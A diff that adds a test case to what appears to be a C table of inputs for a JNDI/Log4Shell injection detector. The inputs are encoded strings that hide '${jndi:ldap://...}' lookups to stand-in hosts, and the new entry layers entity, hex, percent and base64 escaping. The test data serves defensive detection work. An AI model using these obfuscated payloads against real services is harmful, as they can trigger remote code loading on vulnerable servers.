@@ -58,6 +58,11 @@ static const struct {
     {"dXNlciAke2puZGk6bGRh\\r\\ncDovL3gvYX0gYW5kIG1vcmU=", VERDICT_REACHES, "ldap://x/a",
      "backslash base64"},
     {"q=\\/dXNlciAke2puZGk6bGRhcDovL3gvYX0gYW5kIG1vcmU=", VERDICT_REACHES, "ldap://x/a", "base64"},
+    /* digits that are escapes, in any order of layers */
+    {"&#7\\x34;\\x48&#37;74qb&\\x2310\\x39;RpO&#\\x3109;xk\\x59XA6Ly\\x25394L&#109;&#86;&#52;"
+     "YW1wbGUv&#"
+     "\\x389;&#88;0&#61;",
+     VERDICT_REACHES, "ldap://x.example/a", "backslash entity url base64"},
     {"Skh0cWJtUnBPbXhrWVhBNkx5OTRMMkY5", VERDICT_REACHES, "ldap://x/a", "base64 base64"},
     {"t=dXNlciAke2puZGk6bGRhcDovL3gvYX0gYW5kIG1vcmU%3D", VERDICT_REACHES, "ldap://x/a", "base64"},
 };
